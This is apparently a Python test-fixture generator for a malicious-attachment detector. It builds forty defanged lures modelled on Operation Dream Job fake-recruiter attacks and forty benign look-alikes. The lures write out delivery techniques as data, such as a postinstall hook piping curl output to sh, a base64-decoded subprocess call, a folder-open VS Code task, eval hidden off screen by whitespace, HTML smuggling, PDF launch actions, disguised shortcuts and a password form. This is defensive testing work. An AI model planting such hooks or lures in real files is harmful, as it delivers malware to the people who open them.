"""Forty files as Operation Dream Job and its kin send them, and forty that look alike and are honest. All written from scratch and harmless: what would run is notepad, what would be fetched is at
example.org, programs have no code, signatures are of a test authority. files(authority, folder) gives {name: (content or {member: content}, indicator that must say so, or None)}."""
import base64
import io
import os
import zipfile
import email.message
import email.policy

import active as A
import images
import programs as P
from make_office import ATTACK, DOCUMENTS, ENCODED, OFFICE, docm, embedded, linked
from office_parts import ooxml, relations, run, word

PDF = A.page_pdf()
ADVERT = ("Lead engineer for autonomous underwater vehicles. You design towed sensors, you lead a team of six. We offer 30 days of holiday, a pension, and a laboratory by the sea. "
          "Apply through our portal by 30 June.")
CMD = "C:\\Windows\\System32\\cmd.exe"
HARMLESS = base64.b64encode(P.pe(ProductName="Evaluation")).decode()


def zipped(members):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED) as z:
        for name, content in members.items():
            z.writestr(name, content)
    return b.getvalue()


def iso(folder, name, members, hidden=()):
    src = os.path.join(folder, name + ".src")
    for member, content in members.items():
        os.makedirs(os.path.dirname(os.path.join(src, member)), exist_ok=True)
        open(os.path.join(src, member), "wb").write(content)
    images.iso(src, os.path.join(folder, name), hidden=hidden)
    return open(os.path.join(folder, name), "rb").read()


def mail(subject, text, attachments=(), sender="Anna Recruiter <anna.recruiter@gmail.com>", html=None):
    m = email.message.EmailMessage(policy=email.policy.SMTP)
    m["From"], m["To"], m["Subject"] = sender, "erika.beispiel@kuestenforschung.example", subject
    m["Date"], m["Message-ID"] = "Tue, 09 Jun 2026 09:12:00 +0200", f"<{abs(sum(map(ord, subject)))}@mail.example>"
    m.set_content(text)
    if html:
        m.add_alternative(html, subtype="html")
    for name, content in attachments:
        m.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
    return m.as_bytes()


JOB = "I came across your profile and have an exciting opportunity: the job description and the salary range are attached. "
JOB_DE = "Ich bin auf Ihr Profil aufmerksam geworden. Die Stellenbeschreibung für eine leitende Position liegt bei. "
JOB_KO = "귀하의 프로필을 보고 채용 제안을 드립니다. 직무 기술서를 첨부합니다. "


def lures(a, d):
    vnc = P.pe(ProductName="TightVNC Viewer", OriginalFilename="tvnviewer.exe")
    sumatra = P.pe(ProductName="SumatraPDF", FileDescription="SumatraPDF")
    putty = P.pe(ProductName="PuTTY suite", CompanyName="Simon Tatham")
    tool = a.sign(P.pe(ProductName="Document tool", CompanyName="Some Lab"), "Some Lab")
    return {
        "Job_Description.docx": (linked("attachedTemplate", "https://example.org/Job.dotm", "word/_rels/settings.xml.rels"), "OFFICE_REMOTE_TEMPLATE"),
        "Salary_2026.docm": (docm({"Module1": (ATTACK, b"")}), "OFFICE_VBA_ATTACK"),
        "Offer_encoded.docm": (docm({"ThisDocument": (ENCODED.replace(b"Sub Show", b"Sub Document_Open"), b"")}), "OFFICE_VBA_OBFUSCATED"),
        "Benefits.xlsm": (DOCUMENTS["xlm.xlsm"][0], "OFFICE_XLM_AUTORUN"),
        "Benefits.xls": (DOCUMENTS["xlm.xls"][0], "OFFICE_XLM_AUTORUN"),
        "Questionnaire.docx": (DOCUMENTS["dde.docx"][0], "OFFICE_DDE"),
        "Assignment.docx": (embedded(b"assignment.vbs", b'MsgBox "Hello"\r\n'), "OFFICE_EMBEDDED_PROGRAM"),
        "Profile.rtf": (DOCUMENTS["object-script.rtf"][0], "OFFICE_EMBEDDED_PROGRAM"),
        "Interview.rtf": (DOCUMENTS["template.rtf"][0], "OFFICE_REMOTE_TEMPLATE"),
        "Hidden_password.xlsm": (DOCUMENTS["standard-agile-macro.xlsm"][0], "OFFICE_VBA_ATTACK"),
        "Job_Offer.pdf.lnk": (A.lnk(CMD, "/c start notepad"), "LNK_COMMAND"),
        "Offer.lnk": (A.lnk(CMD, "/c notepad", "C:\\Program Files\\Adobe\\Acrobat\\AcroRd32.exe"), "LNK_DISGUISED"),
        "Position.zip": ({"Position.pdf.lnk": A.lnk(CMD, "/c notepad"), "readme.txt": b"see the position"}, "ARCHIVE_SHORTCUT"),
        "amazon_evaluation.iso": (iso(d, "amazon_evaluation.iso", {"PuTTY.exe": putty, "readme.txt": b"log in with the tool"}), "PRODUCT_NOT_ITS_MAKER"),
        "Offer.iso": (iso(d, "Offer.iso", {"Offer.pdf.lnk": A.lnk(CMD, "/c notepad"), "data.dll": P.pe(True)}, ("data.dll",)), "IMAGE_HIDDEN_PROGRAM"),
        "Assessment.zip": ({"Assessment.iso": iso(d, "inner.iso", {"Quiz1.exe": P.pe(ProductName="Quiz")})}, "IMAGE_PROGRAM"),
        "Offer_with_viewer.zip": ({"Offer.pdf": PDF, "SecurePDF.exe": sumatra}, "VIEWER_WITH_DOCUMENT"),
        "vnc_interview.zip": ({"Interview.vnc": b"[connection]\nhost=192.0.2.1\n", "tvnviewer.exe": vnc}, "PRODUCT_NOT_ITS_MAKER"),
        "tvnviewer.exe": (a.sign(vnc, "Some Lab"), "PRODUCT_NOT_ITS_MAKER"),
        "SumatraPDF.exe": (a.sign(sumatra), "PRODUCT_NOT_ITS_MAKER"),
        "Reader.zip": ({"app/tool.exe": tool, "app/version.dll": P.pe(True, ProductName="Part")}, "SIDELOAD_PAIR"),
        "patched.exe": (bytes(a.sign(putty, "Simon Tatham")[:0x300]) + b"\1" + bytes(a.sign(putty, "Simon Tatham")[0x301:]), "SIGNATURE_BROKEN"),
        "Job_Offer.exe": (P.pe(ProductName="FortiClient", CompanyName="Nobody"), "PRODUCT_NOT_ITS_MAKER"),
        "Description.pdf": (A.page_pdf(content=b"BT (This document cannot be displayed.) Tj 0 -20 Td (Please use the secure viewer we sent you.) Tj ET"), "VIEWER_BAIT"),
        "Contract.pdf": (A.page_pdf("/OpenAction << /S /Launch /F (notepad.exe) >>"), "PDF_LAUNCH"),
        "Form.pdf": (A.page_pdf("/OpenAction << /S /JavaScript /JS (app.alert\\('x'\\)) >>"), "PDF_JAVASCRIPT"),
        "Careers.html": (A.page("", f"var d=atob('{HARMLESS}');var b=new Blob([d]);var a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='offer.iso';a.click();"), "HTML_SMUGGLING"),
        "Login_to_read.html": (A.page("<form action='https://example.org/x'><input name=u><input type='password' name=p></form>"), "HTML_PASSWORD"),
        "Badge.svg": (b"<svg xmlns='http://www.w3.org/2000/svg'><script>window.location='https://example.org/'</script></svg>", "SVG_ACTIVE"),
        "Notes.one": (A.onenote(b"\x89PNG\r\n\x1a\n" + bytes(100), A.lnk(CMD, "/c notepad")), "ONENOTE_ACTIVE"),
        "Offer.url": (b"[InternetShortcut]\r\nURL=file://files.example.org/share/offer.pdf\r\n", "REMOTE_TARGET"),
        "Interview.rdp": (b"full address:s:desk.example.org:443\r\ndrivestoredirect:s:*\r\n", "RDP_SHARES"),
        "coding-test.zip": ({"test/package.json": b'{"name":"t","scripts":{"postinstall":"curl -s https://example.org/a | sh"}}', "test/index.js": b"module.exports=1\n"}, "CODE_HOOK_FETCHES"),
        "coding-test-python.zip": ({"t/setup.py": b"import base64, subprocess\nsubprocess.run(base64.b64decode('" + base64.b64encode(b"echo harmless") + b"'))\n"}, "CODE_HOOK_FETCHES"),
        "repository.zip": ({"t/.vscode/tasks.json": b'{"tasks":[{"label":"x","command":"node x.js","runOptions":{"runOn":"folderOpen"}}]}', "t/app.js": b"1\n"}, "CODE_RUNS_WHEN_OPENED"),
        "wide.zip": ({"t/server.js": b"const a = 1;" + b" " * 400 + b"eval(atob(b)) // to the right\n"}, "CODE_OFF_SCREEN"),
        "mail-zip.eml": (mail("Your dream job", JOB + "The password is Offer-2026.", [("offer.zip", zipped({"Offer.pdf.lnk": A.lnk(CMD, "/c notepad")}))]), "ARCHIVE_SHORTCUT"),
        "mail-iso.eml": (mail("Leitende Position", JOB_DE, [("stelle.iso", open(os.path.join(d, "Offer.iso"), "rb").read())]), "IMAGE_HIDDEN_PROGRAM"),
        "mail-viewer.eml": (mail("채용 제안", JOB_KO, [("제안서.zip", zipped({"제안서.pdf": PDF, "SecurePDFViewer.exe": sumatra}))]), "VIEWER_WITH_DOCUMENT"),
        "mail-template.eml": (mail("Job opportunity at Lockheed", JOB + "Please answer on WhatsApp.", [("Job.docx", linked("attachedTemplate", "https://example.org/Job.dotm", "word/_rels/settings.xml.rels"))],
                                   '"Lockheed Martin HR" <hr@careers-portal.example>'), "OFFICE_REMOTE_TEMPLATE"),
    }


def paragraphs(*texts):
    return ooxml("docx", {"word/document.xml": word("".join(f"<w:p>{run(t)}</w:p>" for t in texts)), "word/_rels/document.xml.rels": relations((OFFICE + "hyperlink", "https://example.org/jobs", True))})


def honest(a, d):
    putty = a.sign(P.pe(ProductName="PuTTY suite", CompanyName="Simon Tatham"), "Simon Tatham")
    advert = [ADVERT, "Wir suchen eine Ingenieurin oder einen Ingenieur für Schleppantennen.", "해양 센서 연구원을 모집합니다. 지원은 채용 포털에서 받습니다."]
    text_pdf = lambda t: A.page_pdf(content=f"BT ({t}) Tj ET".encode())
    return {
        "job-advert.docx": (paragraphs(*advert), None), "job-advert.pdf": (text_pdf("Lead engineer for underwater vehicles, apply through our portal"), None), "job-advert.html": (A.page("<h1>Engineer</h1>" + A.LONG_TEXT), None),
        "job-advert.rtf": (DOCUMENTS["plain.rtf"][0], None), "job-advert.odt": (DOCUMENTS["plain.odt"][0], None), "job-advert.txt": (ADVERT.encode(), None), "cv.docx": (paragraphs("Curriculum vitae", "Studies of ocean engineering"), None),
        "cv.pdf": (text_pdf("Curriculum vitae of Erika Beispiel"), None), "application.zip": ({"cv.pdf": text_pdf("CV"), "letter.docx": paragraphs("Dear Sir or Madam")}, None),
        "application-photos.zip": ({"photo.jpg": b"\xff\xd8\xff\xe0" + bytes(60), "cv.pdf": text_pdf("CV")}, None), "template-local.docx": (DOCUMENTS["template-local.docx"][0], None), "letter.docm": (DOCUMENTS["macro-none-type.docm"][0], None),
        "timesheet.docm": (DOCUMENTS["macro-ordinary.docm"][0], None), "prices.csv": (DOCUMENTS["plain.csv"][0], None),
        "book-outside.xls": (DOCUMENTS["book-outside.xls"][0], None), "page-fields.doc": (DOCUMENTS["page.doc"][0], None), "slides.pptx": (DOCUMENTS["click-next.pptx"][0], None), "old-letter.xml": (DOCUMENTS["plain-2003.xml"][0], None),
        "form.pdf": (A.page_pdf("/AcroForm << /Fields [] >>"), None), "open-at-page.pdf": (A.page_pdf("/OpenAction [3 0 R /Fit]"), None),
        "e-invoice.pdf": (A.CASES["attached.pdf"][0], None), "links.pdf": (A.page_pdf(page="/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org/x) >> >>]"), None),
        "measurements.iso": (iso(d, "measurements.iso", {"data/run1.csv": b"a,b\n1,2\n", "readme.txt": b"runs of June"}), None), "backup.tar": ({"__tar__": b""}, None), "sources.zip": ({"src/main.c": b"int main(void) { return 0; }\n", "Makefile": b"all:\n\tcc src/main.c\n"}, None),
        "npm-package.zip": ({"package.json": b'{"name":"x","scripts":{"test":"jest","build":"tsc"}}', "index.js": b"module.exports = 1\n"}, None), "npm-husky.zip": ({"package.json": b'{"name":"x","scripts":{"prepare":"husky install","test":"jest"}}'}, None),
        "python-package.zip": ({"x/setup.py": b"from setuptools import setup\nsetup(name='x')\n", "x/x.py": b"print(1)\n"}, None), "editor.zip": ({"t/.vscode/tasks.json": b'{"tasks":[{"label":"build","command":"make"}]}', "t/a.c": b"int a;\n"}, None),
        "tool.py": (b"import os\nprint(os.getcwd())\n", None), "putty-from-it.exe": (putty, None), "meeting.ics": (A.CASES["meeting.ics"][0], None), "chart.svg": (A.CASES["picture.svg"][0], None), "pictures.one": (A.CASES["pictures.one"][0], None),
        "newsletter.html": (A.CASES["newsletter.html"][0], None), "mail-hr.eml": (mail("Urlaubsanträge", "Bitte reichen Sie Ihre Urlaubsanträge bis Freitag ein.", (), "Personalabteilung <personal@kuestenforschung.example>"), None),
        "mail-interview.eml": (mail("Vorstellungsgespräch am Dienstag", "Das Vorstellungsgespräch mit Frau Kim ist am Dienstag um 14 Uhr. Die Position als Teamleitung ist weiter offen.", [("cv.pdf", text_pdf("CV"))], "Personal <personal@kuestenforschung.example>"), None),
        "mail-recruiter.eml": (mail("Job opportunity in Kiel", "We have an open position of lead engineer. The job description is on our page, and the hiring manager would like to talk to you at the fair.", (),
                                    "Hiring team <jobs@werft-nord.example>"), None),
        "mail-invoice.eml": (mail("Rechnung 2026-118", "Die Rechnung liegt bei.", [("rechnung.pdf", text_pdf("Rechnung"))], "Buchhaltung <rechnung@radundtat.example>"), None),
        "mail-korean.eml": (mail("면접 일정 안내", "면접은 화요일 오후 2시입니다. 채용 포털에서 일정을 확인해 주십시오.", [("안내.pdf", text_pdf("Schedule"))], "인사팀 <hr@hanbit-marine.example>"), None),
    }
